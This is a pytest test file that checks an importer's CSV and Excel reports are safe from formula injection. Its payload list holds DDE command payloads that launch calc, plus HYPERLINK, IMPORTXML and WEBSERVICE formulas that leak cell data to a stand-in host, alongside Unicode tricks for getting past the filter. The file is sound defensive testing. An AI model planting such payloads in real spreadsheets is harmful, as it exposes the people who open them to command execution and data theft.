"""Whoever opens a report in a spreadsheet program sees texts: nothing is evaluated, nothing leads outside."""

import ast
import csv
import hashlib
import re
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from importer.model.outcome import FollowUp, RowStatus
from importer.model.problem import Problem
from importer.reporting import write_annotated
from tests.reporting.conftest import ReportRow, Reports

PACKAGE = Path(__file__).parents[2] / "importer"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://x.example/?v=",A1:A9),"//a")',
    '=WEBSERVICE("http://x.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200b \ufeff\u2060=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "｜x",
    "|calc",
    "'=1+1",
    "+1-1",
    "+91 98765 43210",
    "+0123456789",
    "+123456",
    "+1234567890123456",
    "+919876543210=1",
    "+91987654321٠",
]
PHONES = ["+919876543210", "+12025550100", "+1234567", "+123456789012345"]
ADDED = ("_importer_status", "_importer_problems", "_importer_message", "_importer_hint")


def begins_harmlessly(cell: str) -> bool:
    """By the rule's own words, not by its pattern: nothing unseen, then no trigger; or an apostrophe; or E.164."""
    if re.fullmatch(r"\+[1-9][0-9]{6,14}", cell, re.ASCII) or cell.startswith("'"):
        return True
    for character in cell:
        if not (character.isspace() or unicodedata.category(character) in {"Cc", "Cf"}):
            return character not in "=+-@|＝＋－＠｜﹢﹣﹦﹫"
    return not cell


def row_of(reports: Reports, number: int, payload: str) -> tuple[ReportRow, ...]:
    problem = Problem(row=number, code="phone-invalid", detail=payload, column=payload, value=payload, fix=payload)
    texts: dict[str, Any] = {
        "message": payload,
        "hint": payload,
        "lead_id": payload,
        "assigned_to": payload,
        "crm_id": payload,
    }
    cells = (f"C-{number}", payload, payload, "x")
    rejected = reports.row(number, RowStatus.REJECTED, cells=cells, assign=FollowUp.NONE, **texts)
    return rejected, reports.row(number + 1_000, RowStatus.INVALID, problems=(problem,), cells=cells, crm_id=payload)


def read(path: Path, encoding: str) -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_that_the_importer_adds_can_be_evaluated(tmp_path: Path, reports: Reports, payload: str) -> None:
    rows = row_of(reports, 2, payload)
    run = reports.run(reports.source(f"in/{payload.replace('/', '')}", sheet=payload), rows=rows)
    reports.write_results(tmp_path / "results.csv", run, reports.batches(rows))
    reports.write_rejects(tmp_path / "rejects.csv", run, rows)
    results = read(tmp_path / "results.csv", "utf-8")
    assert [cell for row in results for cell in row.values() if not begins_harmlessly(cell)] == []
    rejects = read(tmp_path / "rejects.csv", "utf-8-sig")
    assert [row[name] for row in rejects for name in ADDED if not begins_harmlessly(row[name])] == []
    assert results[0]["crm_id"] == f"'{payload}"
    assert [(row["Name"], row["Phone"]) for row in rejects] == [(payload, payload)] * 2, "the user's own cells stay"


@pytest.mark.parametrize("phone", PHONES)
def test_a_phone_number_stays_a_phone_number(tmp_path: Path, reports: Reports, phone: str) -> None:
    rows = [reports.row(2, RowStatus.REJECTED, crm_id=phone, message=phone)]
    reports.write_results(tmp_path / "results.csv", reports.run(rows=rows), reports.batches(rows))
    (row,) = read(tmp_path / "results.csv", "utf-8")
    assert (row["crm_id"], row["message"]) == (phone, phone)


def test_one_place_writes_csv() -> None:
    """Whoever writes CSV elsewhere than in reporting/csv_columns.py (with pandas, say) has to think of formulas."""
    writers = {"writer", "DictWriter", "to_csv", "write_csv", "to_excel"}
    found = set()
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in writers:
                found.add(path.relative_to(PACKAGE).as_posix())
    assert not found


@pytest.fixture(params=["annotated.xlsx", "rejects.xlsx"])
def workbook(request: pytest.FixtureRequest, tmp_path: Path, reports: Reports) -> Path:
    """Rows full of payloads: in a marked copy of the user's workbook, and in the workbook of the rejects."""
    source = tmp_path / "leads.xlsx"
    book = openpyxl.Workbook()
    book.active.append(list(reports.headers))
    for number in range(2, 2 + len(PAYLOADS)):
        book.active.append([f"C-{number}", "x", "y", "z"])
    book.save(source)
    sha256 = hashlib.sha256(source.read_bytes()).hexdigest()
    shown = [payload for payload in PAYLOADS if payload != "\x00=1+1"]
    rows = [row_of(reports, number, payload)[number % 2] for number, payload in enumerate(shown, start=2)]
    rows = [reports.row(number, row.status, **_fields(row)) for number, row in enumerate(rows, start=2)]
    run = reports.run(reports.source(source, sheet="Sheet", sha256=sha256), rows=rows, reason="=1+1", org="=org")
    path = tmp_path / str(request.param)
    if path.name == "annotated.xlsx":
        assert not write_annotated(path, source, run, lambda: reports.batches(rows))
    else:
        reports.write_rejects_workbook(path, run, rows)
    return path


def _fields(row: ReportRow) -> dict[str, Any]:
    return {
        name: getattr(row, name)
        for name in ("message", "hint", "lead_id", "assigned_to", "crm_id", "problems", "cells")
    }


def test_every_text_of_a_workbook_is_typed_as_text(workbook: Path) -> None:
    with zipfile.ZipFile(workbook) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    sheets = {name: text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")}
    assert len(sheets) == 2
    for text in sheets.values():
        assert re.findall(r"<f[\s>]", text) == []
        kinds = set(re.findall(r'<c [^>]*?\bt="(\w+)"', text))
        assert kinds <= {"s", "inlineStr", "n"}, kinds
        for cell in re.findall(r"<c ([^>]*)><v>([^<]*)</v></c>", text):
            assert 't="s"' in cell[0] or re.fullmatch(r"[0-9.]+", cell[1]), cell
    assert any("WEBSERVICE" in text for text in parts.values()), "the payloads are there, as text"


def test_nothing_of_a_workbook_leads_outside(workbook: Path) -> None:
    with zipfile.ZipFile(workbook) as archive:
        names = archive.namelist()
        relations = "".join(archive.read(name).decode() for name in names if name.endswith(".rels"))
    assert "TargetMode" not in relations
    assert [name for name in names if re.search("externalLink|vbaProject|ddeLink|connections|activeX", name)] == []


def test_a_workbook_opens_and_shows_the_payloads_as_they_are(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    seen = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in seen} <= {"s", "n"}
    texts = " ".join(str(cell.value) for cell in seen)
    assert "=1+1" in texts
    assert "＝1+1" in texts
